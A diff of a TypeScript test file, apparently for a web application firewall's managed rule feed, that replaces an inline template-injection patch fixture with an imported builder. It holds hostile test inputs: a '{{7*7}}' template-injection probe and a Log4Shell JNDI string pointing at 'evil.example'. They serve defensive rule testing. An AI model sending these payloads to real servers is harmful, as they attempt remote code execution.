@@ -12,29 +12,11 @@ import { startTestApp, type Reply } from '../testing/app.js';
 import { onBothDatabases } from '../testing/databases.js';
 import { nodeToken, startNode, startUpstream, type TestNode } from '../testing/data-plane.js';
 import { freePort } from '../testing/free-port.js';
+import { feedPatch } from '../testing/builders/feed.js';
 import { writeRuleSet } from '../testing/rule-set.js';
 import { makeDirectory } from '../testing/temporary.js';
 import { connectDataPlane } from '../nodes/link.js';
 
-const patch = {
-  id: 1007900,
-  cve: 'CVE-2026-10001',
-  title: 'Example template injection',
-  product: 'Example',
-  affected: '1.x',
-  cwe: 'CWE-94',
-  severity: 'critical',
-  phase: 2,
-  links: [
-    ['REQUEST_FILENAME', '@contains /example/render', 'urlDecodeUni,normalizePathWin,lowercase'],
-    ['ARGS:template', '@contains {{'],
-  ],
-  attack: [['a template', 'GET /example/render?template={{7*7}}']],
-  benign: [
-    ['no template', 'GET /example/render?template=plain'],
-    ['elsewhere', 'GET /other?template={{x}}'],
-  ],
-};
 const feed = (version: number, patches: readonly unknown[]): string =>
   JSON.stringify({
     format: 'gatehouse-managed-feed/1',
@@ -71,7 +53,7 @@ const attack = '/example/render?template={{7*7}}';
 const catalogued = '/?x=${jndi:ldap://evil.example/a}';
 
 async function suite(t: Test, database: Database): Promise<void> {
-  let served = feed(3, [patch]);
+  let served = feed(3, [feedPatch]);
   const publisher = createServer((_, reply) => reply.end(served));
   await new Promise<void>((resolve) => publisher.listen(0, '127.0.0.1', resolve));
   t.teardown(() => publisher.close());
